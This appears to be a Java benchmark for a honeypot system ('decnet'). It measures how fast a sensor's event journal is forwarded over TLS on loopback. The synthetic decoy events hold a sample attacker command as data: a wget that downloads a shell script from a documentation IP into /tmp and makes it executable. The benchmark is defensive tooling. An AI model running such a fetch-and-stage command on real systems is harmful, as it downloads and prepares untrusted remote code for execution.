package decnet.bench;

import decnet.core.Config;
import decnet.core.Counters;
import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.EventLine;
import decnet.core.Peer;
import decnet.core.Places;
import decnet.journal.JournalConfig;
import decnet.journal.JournalWriter;
import decnet.runtime.Worker;
import decnet.runtime.fixture.TestWorkerContext;
import decnet.testing.FreePort;
import decnet.workers.edge.EdgeWorkers;
import decnet.workers.edge.SwarmAuthority;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.Stream;

/**
 * How fast worker {@code forwarder} brings a sensor's journal to worker {@code listener} over TLS 1.3 on loopback, acknowledged and synced:
 * {@code RelayBench EVENTS ROUNDS}. Both ends in this process, on the same cores.
 */
public final class RelayBench {
    private RelayBench() {}

    /** @throws Exception whatever goes wrong */
    public static void main(String[] arguments) throws Exception {
        int events = arguments.length > 0 ? Integer.parseInt(arguments[0]) : 200_000;
        int rounds = arguments.length > 1 ? Integer.parseInt(arguments[1]) : 3;
        List<Double> rates = new ArrayList<>();
        for (int round = 0; round <= rounds; round++) {
            Path dir = Files.createTempDirectory("relay");
            try {
                double rate = round(dir, events);
                System.out.printf(Locale.ROOT, "round %d: %.0f events/s%n", round, rate);
                if (round > 0) { // the first one warms up
                    rates.add(rate);
                }
            } finally {
                delete(dir);
            }
        }
        System.out.printf(
                Locale.ROOT,
                "median %.0f events/s of %d bytes%n",
                rates.stream().sorted().toList().get(rates.size() / 2),
                EventLine.format(event(1)).length());
    }

    private static double round(Path dir, int events) throws Exception {
        Places centre = new Places(dir.resolve("centre"), dir.resolve("run"));
        Places sensor = new Places(dir.resolve("sensor"), dir.resolve("run"));
        Files.createDirectories(centre.state());
        Files.createDirectories(sensor.state());
        SwarmAuthority authority = new SwarmAuthority(centre.state().resolve("swarm"), InstantSource.system());
        authority.init("bench");
        authority.issue(new DeckyName("centre"), List.of("127.0.0.1"), 1, authority.own());
        authority.issue(new DeckyName("sensor"), List.of(), 1, sensor.state().resolve("swarm/own"));
        record(sensor.journal("collect"), events);
        int port = FreePort.next();
        try (TestWorkerContext listener = new TestWorkerContext(
                        "herd",
                        Config.of(Map.of("listener.address", "127.0.0.1:" + port, "listener.rate", "0")),
                        centre)
                .start(worker("listener"))) {
            while (!listener.state().equals("ready") && !listener.state().startsWith("degraded: the certificate")) {
                LockSupport.parkNanos(1_000_000);
            }
            long begun = System.nanoTime();
            try (TestWorkerContext forwarder = new TestWorkerContext(
                            "herd", Config.of(Map.of("forwarder.to", "127.0.0.1:" + port)), sensor)
                    .start(worker("forwarder"))) {
                while (forwarder.counters().snapshot().getOrDefault("forwarder_events_total", 0L) < events) {
                    LockSupport.parkNanos(500_000);
                }
                return events / ((System.nanoTime() - begun) / 1e9);
            }
        }
    }

    private static Worker worker(String name) {
        return new EdgeWorkers()
                .workers().stream()
                        .filter(spec -> spec.name().equals(name))
                        .findFirst()
                        .orElseThrow()
                        .factory()
                        .get();
    }

    private static Event event(int i) {
        return Event.of(
                        Instant.now(),
                        new DeckyName("web-" + i % 100),
                        "ssh",
                        "command",
                        Map.of(
                                "command",
                                "wget http://198.51.100." + i % 250 + "/bin.sh -O /tmp/.x; chmod +x /tmp/.x",
                                "user",
                                "root"))
                .withConnection("00ff" + i / 10, Peer.of("192.0.2." + i % 250, 4711), Peer.of("192.0.2.2", 22))
                .withRecording(Instant.now(), "sensor");
    }

    private static void record(Path journal, int events) {
        try (JournalWriter writer = JournalWriter.open(
                journal, JournalConfig.from(Config.of(Map.of())), InstantSource.system(), new Counters())) {
            for (int i = 0; i < events; i++) {
                writer.append(event(i));
                if (i % 1000 == 999) {
                    writer.checkpoint("decoys", "1:" + i);
                    writer.sync();
                }
            }
        }
    }

    private static void delete(Path dir) throws IOException {
        try (Stream<Path> files = Files.walk(dir)) {
            for (Path file : files.sorted(Comparator.reverseOrder()).toList()) {
                Files.delete(file);
            }
        }
    }
}
